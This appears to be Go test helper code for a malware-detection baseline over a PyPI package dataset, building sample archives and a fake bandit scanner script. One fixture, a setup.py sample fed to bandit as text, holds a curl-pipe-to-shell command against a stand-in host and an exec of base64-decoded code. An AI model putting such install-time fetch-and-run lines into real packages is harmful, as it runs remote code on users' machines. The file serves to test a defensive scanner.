package baselines

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"pypimal/dataset"
)

// requireBandit skips the test when bandit is not installed.
func requireBandit(t testing.TB) string {
	t.Helper()
	bin, err := exec.LookPath("bandit")
	if err != nil {
		t.Skip("bandit is not installed (apt-get install -y bandit): skipping the test that runs it")
	}
	return bin
}

// pkgOf builds an in-memory package from path → content.
func pkgOf(files ...string) *dataset.Package {
	p := &dataset.Package{Row: dataset.Row{ID: "t"}}
	for i := 0; i+1 < len(files); i += 2 {
		data := []byte(files[i+1])
		p.Files = append(p.Files, dataset.File{Path: files[i], Size: int64(len(data)), Data: data,
			Kind: dataset.Classify(files[i], data)})
	}
	return p
}

// Hand-written sample sources. They are text for bandit to read; nothing
// runs them.
const (
	evilSetup = `import os
import base64
import subprocess
from setuptools import setup

os.system("curl http://example.invalid/x.sh | sh")
exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))
password = "hunter2"
setup(name="sample", version="1.0")
`
	benignModule = `"""A harmless module."""


def add(a, b):
    return a + b
`
	brokenModule = "def broken(:\n    pass\n"
)

// sdist builds a .tar.gz with a top folder, as an sdist has.
func sdist(t testing.TB, top string, files ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for i := 0; i+1 < len(files); i += 2 {
		data := []byte(files[i+1])
		if err := tw.WriteHeader(&tar.Header{Name: top + "/" + files[i], Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// fixtureRow stores an archive under dataDir and returns its manifest row.
func fixtureRow(t testing.TB, dataDir, id, label, split string, archive []byte) dataset.Row {
	t.Helper()
	rel := filepath.Join(label, id+".tar.gz")
	if err := os.MkdirAll(filepath.Join(dataDir, label), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dataDir, rel), archive, 0o644); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(archive)
	return dataset.Row{ID: id, Name: id, Version: "1.0", Label: label, Path: filepath.ToSlash(rel),
		Format: "sdist-tar.gz", SHA256: hex.EncodeToString(sum[:]), Bytes: int64(len(archive)), PaperSplit: split}
}

// fakeBandit writes a shell script that answers --version like bandit and
// does body for every other call.
func fakeBandit(t testing.TB, body string) string {
	t.Helper()
	if _, err := exec.LookPath("sh"); err != nil {
		t.Skip("no /bin/sh")
	}
	name := filepath.Join(t.TempDir(), "fake-bandit")
	script := "#!/bin/sh\n" +
		"if [ \"$1\" = \"--version\" ]; then echo 'bandit 0.0.1'; echo '  python version = 3.11.2 (fake)'; exit 0; fi\n" +
		body + "\n"
	if err := os.WriteFile(name, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return name
}
